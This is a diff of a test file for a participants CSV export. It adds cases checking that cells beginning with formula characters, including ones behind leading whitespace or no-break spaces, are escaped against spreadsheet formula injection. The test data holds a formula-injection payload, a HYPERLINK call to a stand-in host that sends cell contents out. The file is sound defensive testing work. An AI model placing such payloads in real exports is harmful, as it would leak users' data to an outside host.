@@ -68,8 +68,9 @@ describe('participants CSV', () => {
     expect(lines[2]?.endsWith('"Vegan; ""bitte""";"Menü: vegan; Alter des Kindes: 7"')).toBe(true);
   });
 
-  // OWASP: every cell starting with =, +, -, @, tab or carriage return gets a leading
-  // apostrophe, whatever follows; everything else is left alone.
+  // OWASP: every cell starting with =, +, -, @, tab, carriage return or line feed gets a leading
+  // apostrophe, whatever follows, and so does one whose leading white space hides such a
+  // character; everything else is left alone.
   it.each([
     [
       '-1+HYPERLINK("http://evil.example/?x="&A1;"Klick")',
@@ -82,6 +83,17 @@ describe('participants CSV', () => {
     ['\t=1+1', '"\'\t=1+1"'],
     ['\r=1+1', '"\'\r=1+1"'],
     ['- 5', '"\'- 5"'],
+    // Leading white space a spreadsheet skips before reading a formula: line feed, carriage
+    // return, tab, space, no-break space (and any mix of them).
+    ['\n=1+1', '"\'\n=1+1"'],
+    ['\r\n@SUM(1)', '"\'\r\n@SUM(1)"'],
+    [' =1+1', '"\' =1+1"'],
+    ['   +41 79 123 45 67', '"\'   +41 79 123 45 67"'],
+    ['\u00A0=HYPERLINK("x")', '"\'\u00A0=HYPERLINK(""x"")"'],
+    ['\u00A0 \n-1+1', '"\'\u00A0 \n-1+1"'],
+    ['\n', '"\'\n"'],
+    [' Anna', '" Anna"'],
+    ['\u00A0Anna', '"\u00A0Anna"'],
     ['-', '"\'-"'],
     // A legitimate phone number stays text with every digit (Excel shows '+41 79 123 45 67
     // instead of running it as a formula and showing #NAME?).
